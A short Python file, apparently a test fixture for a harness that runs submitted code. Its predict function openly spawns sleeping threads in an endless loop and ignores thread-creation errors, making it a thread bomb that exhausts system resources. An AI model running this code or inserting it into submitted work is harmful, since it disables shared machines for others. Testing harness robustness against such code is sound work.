"""Starts threads for ever."""

import threading
import time


def predict(parameters, X):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(1000,)).start()
        except RuntimeError:
            pass
